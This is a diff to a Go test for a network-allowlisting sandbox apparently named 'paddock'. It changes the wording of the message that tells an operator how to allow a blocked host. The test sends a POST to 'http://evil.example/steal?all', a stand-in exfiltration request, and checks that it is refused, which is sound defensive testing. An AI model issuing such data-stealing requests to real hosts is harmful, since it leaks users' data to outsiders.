@@ -316,7 +316,7 @@ func TestADenialTellsProgramModelAndPerson(t *testing.T) {
 	c := program(t, d)
 	a := ask(t, c, "POST", "http://evil.example/steal?all")
 	if a.status != 403 || a.header.Get(deniedHeader) != "host: evil.example:80 is not among the hosts that may be reached" ||
-		a.body != "paddock: evil.example:80 is not among the hosts that may be reached.\nwho runs the server can allow it, as evil.example:80, in the configuration's network.allow, or PADDOCK_NET_ALLOW.\n" {
+		a.body != "paddock: evil.example:80 is not among the hosts that may be reached.\nthe operator can allow it, as evil.example:80, in the configuration's network.allow, or PADDOCK_NET_ALLOW.\n" {
 		t.Errorf("as text: %+v", a)
 	}
 	a = ask(t, c, "POST", "http://api.example.com/v1/x", "Accept", "application/json, text/plain")
